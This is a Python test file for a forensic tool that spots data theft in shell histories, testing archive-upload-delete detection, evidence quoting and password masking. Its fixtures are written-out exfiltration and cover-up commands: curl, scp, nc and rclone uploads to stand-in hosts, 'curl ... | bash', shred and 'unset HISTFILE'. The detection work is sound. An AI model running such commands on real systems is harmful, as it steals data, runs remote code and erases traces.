# SPDX-License-Identifier: AGPL-3.0-or-later
"""Archive, upload, delete is one fact; each alone is somebody's work."""

import time

import pytest
from conftest import TreeMaker

from clean_room_analysis.checks.shell_history import ShellHistory
from clean_room_analysis.checks.theft import Thefts
from clean_room_analysis.model import Severity

CRITICAL, HIGH, MEDIUM = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM


def told(*commands: str) -> list[tuple[Severity, str]]:
    thefts = Thefts()
    for number, command in enumerate(commands, 1):
        thefts.take(number, command)
    return [(one.severity, one.title) for one in thefts.found()]


@pytest.mark.parametrize(
    ("commands", "severity", "words"),
    [
        (
            ("tar czf /tmp/d.tgz /srv/data", "ls", "curl -T /tmp/d.tgz http://198.51.100.23/u", "rm -f /tmp/d.tgz"),
            CRITICAL,
            "packed, sent out to 198.51.100.23 and deleted: d.tgz",
        ),
        (("tar -cvzf d.tgz /srv && curl -F file=@d.tgz https://x.example/up; rm d.tgz",), CRITICAL, "x.example"),
        (("cd /tmp; zip -r -P secret loot.zip /home", "scp loot.zip a@203.0.113.9:", "shred -u loot.zip"), CRITICAL, "203.0.113.9"),
        (("mysqldump --all-databases > /tmp/all.sql", "rclone copy /tmp/all.sql mega:x", "rm /tmp/all.sql"), CRITICAL, "all.sql"),
        (("7z a -mhe=on k.7z /etc", "nc 203.0.113.9 4444 < k.7z"), HIGH, "203.0.113.9"),
        (("tar c /etc | ssh u@203.0.113.9 'cat > x'",), CRITICAL, "in one command"),
        (("pg_dump app | gzip | curl -T - https://x.example/",), CRITICAL, "in one command"),
        # A backup: a person judges it.
        (("tar czf b.tgz /etc", "aws s3 cp b.tgz s3://backups/", "rm b.tgz"), HIGH, "s3://backups"),
        (("tar czf b.tgz /etc", "rsync b.tgz root@10.0.0.5:/backup/"), MEDIUM, "10.0.0.5"),
    ],
)
def test_packed_and_sent_is_one_fact(commands: tuple[str, ...], severity: Severity, words: str) -> None:
    ((found, title),) = told(*commands)
    assert found is severity
    assert words in title


@pytest.mark.parametrize(
    "commands",
    [
        ("tar xzf release.tgz", "rm release.tgz"),
        ("tar czf b.tgz /etc", "rm b.tgz"),
        ("curl -T report.pdf https://x.example/", "rm report.pdf"),
        ("tar czf a.tgz /etc", "scp other.tgz a@203.0.113.9:"),
        ("rm d.tgz", "curl -T d.tgz http://198.51.100.23/u"),
        ("tar czf - /etc | tar xzf - -C /mnt",),
        ("mysqldump app | gzip > /backup/app.gz",),
        ("cat notes | ssh host 'cat > x'",),
    ],
)
def test_work_is_no_theft(commands: tuple[str, ...]) -> None:
    assert told(*commands) == []


def test_the_lines_are_quoted(plain: TreeMaker) -> None:
    plain.file("/root/.bash_history", "tar czf /tmp/d.tgz /srv\ncurl -T /tmp/d.tgz http://198.51.100.23/u\nrm /tmp/d.tgz\n")
    theft = next(one for one in plain.findings(ShellHistory()) if "packed" in one.title)
    assert theft.severity is CRITICAL
    assert theft.attack == ("T1048", "T1560.001", "T1070.004")
    assert theft.evidence.splitlines() == [
        "line 1: tar czf /tmp/d.tgz /srv",
        "line 2: curl -T /tmp/d.tgz http://198.51.100.23/u",
        "line 3: rm /tmp/d.tgz",
    ]


def test_hostile_lines_cost_little() -> None:
    began = time.monotonic()
    told(*(f"tar czf {'a' * 150}{n} /x" for n in range(2000)), *("curl " + "-T " * 700 + " | " * 200 for _ in range(500)), "rm " * 600)
    assert time.monotonic() - began < 5


def test_a_history_is_shown_whole_with_its_matches_marked(plain: TreeMaker) -> None:
    plain.file("/root/.bash_history", "ls\ncd /tmp\ncurl http://198.51.100.23/x | bash\nexit\n")
    (found,) = [one for one in plain.findings(ShellHistory()) if "Command history" in one.title]
    assert found.evidence.splitlines() == [
        "  line 1: ls",
        "  line 2: cd /tmp",
        "> line 3: curl http://198.51.100.23/x | bash",
        "  line 4: exit",
    ]


def test_of_a_long_history_what_matches_is_shown_with_what_stands_around_it(plain: TreeMaker) -> None:
    work = "".join(f"make target-{number}\n" for number in range(1000))
    plain.file("/root/.bash_history", f"{work}curl http://198.51.100.23/x | bash\n{work}unset HISTFILE\n")
    (found,) = [one for one in plain.findings(ShellHistory()) if "Command history" in one.title]
    shown = found.evidence.splitlines()
    assert shown[:4] == [
        "  line 999: make target-998",
        "  line 1000: make target-999",
        "> line 1001: curl http://198.51.100.23/x | bash",
        "  line 1002: make target-0",
    ]
    assert "  …" in shown
    assert shown[-1] == "> line 2002: unset HISTFILE"


def test_matches_are_never_left_out_for_what_stands_around(plain: TreeMaker) -> None:
    plain.file("/root/.bash_history", "".join(f"{'a' * 200}\ncurl http://198.51.100.23/{number} | bash\n" for number in range(20)))
    (found,) = [one for one in plain.findings(ShellHistory()) if "Command history" in one.title]
    assert sum(line.startswith("> ") for line in found.evidence.splitlines()) == 20


def test_secrets_that_were_typed_are_not_quoted(plain: TreeMaker) -> None:
    plain.file(
        "/root/.bash_history",
        "mysql -u app -pHunter2 shop\nexport DB_PASSWORD=Hunter2\ncurl -H token:Hunter2 http://198.51.100.23/x | bash\naws configure set aws_secret_access_key=Hunter2\n",
    )
    for found in plain.findings(ShellHistory()):
        assert "Hunter2" not in found.evidence
        assert "***" in found.evidence
